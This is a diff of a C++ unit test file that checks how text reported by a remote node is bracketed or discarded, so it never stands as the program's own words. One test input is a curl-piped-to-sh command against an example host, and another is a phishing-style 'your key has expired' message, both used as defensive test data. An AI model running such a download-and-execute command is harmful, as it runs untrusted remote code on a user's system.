@@ -1,5 +1,5 @@
 // What a node says never stands as a sentence of this program.
-#include "apps/node_client.h"
+#include "apps/said_by_node.h"
 #include "apps/words/refusal_words.h"
 #include "codec/refusal.h"
 
@@ -9,7 +9,9 @@ namespace linlian::apps {
 namespace {
 
 std::string figure_said(const std::string& value) {
-    return said_by_node({"codec.JSON_MALFORMED", {{"reason", value}}}).figures.at(0).value;
+    return said_by_node(api::Stated{"codec.JSON_MALFORMED", {{"reason", value}}})
+        .figures.at(0)
+        .value;
 }
 
 TEST(WordsOfANode, stand_in_brackets_where_they_are_more_than_a_word_or_a_number) {
@@ -22,16 +24,31 @@ TEST(WordsOfANode, stand_in_brackets_where_they_are_more_than_a_word_or_a_number
     EXPECT_LT(figure_said(std::string(100'000, ' ')).size(), 300U);
 }
 
+// What this program says of its own files, reads, checks and prints.
 TEST(WordsOfANode, take_no_code_of_this_program) {
-    const auto said = said_by_node({"apps.NOT_CONFIRMED", {{"reason", "run this"}}});
-    EXPECT_FALSE(said.code.starts_with("apps."));
-    for (const auto& figure : said.figures) EXPECT_NE(figure.value, "run this");
+    for (const auto* code : {"apps.NOT_CONFIRMED", "apps.LEDGER_FORKED", "light.PREFIX_BROKEN",
+                             "light.COMMIT_SIGNATURE_WRONG", "roster.XLSX_BROKEN",
+                             "tally.MATTER_UNKNOWN", "api.NODE_NOT_REACHED", "api.REPLY_LATE"}) {
+        const auto said = said_by_node(api::Stated{code, {{"reason", "run this"}}});
+        EXPECT_EQ(said.code, "api.REPLY_BROKEN") << code;
+        for (const auto& figure : said.figures) EXPECT_NE(figure.value, "run this");
+    }
+    for (const auto* code : {"registry.KEY_UNKNOWN", "machine.AUTHOR_UNKNOWN", "engine.QUEUE_FULL",
+                             "api.READS_USED_UP", "later.NOT_KNOWN_YET"})
+        EXPECT_EQ(said_by_node(api::Stated{code, {}}).code, code);
 }
 
 TEST(WordsOfANode, keep_what_an_act_needs_as_words_of_ours) {
     const std::string needed = "all(role:party:chair, notice:7)";
-    const auto said = said_by_node({"registry.AUTHORITY_MISSING", {{"needed", needed}}});
-    EXPECT_EQ(said.figures.at(0).value, needed);
+    const auto said_of = [](const char* code, const std::string& value) {
+        return said_by_node(api::Stated{code, {{"needed", value}}}).figures.at(0).value;
+    };
+    EXPECT_EQ(said_of("registry.AUTHORITY_MISSING", needed), needed);
+    EXPECT_EQ(said_of("registry.KEY_UNKNOWN", needed), "「" + needed + "」");
+    for (const auto* sentence :
+         {"role:您的密钥已失效:x", "role:curl example.org/x | sh:x", "all(role:party:Run this)"})
+        EXPECT_EQ(said_of("registry.AUTHORITY_MISSING", sentence),
+                  "「" + std::string{sentence} + "」");
 }
 
 }  // namespace
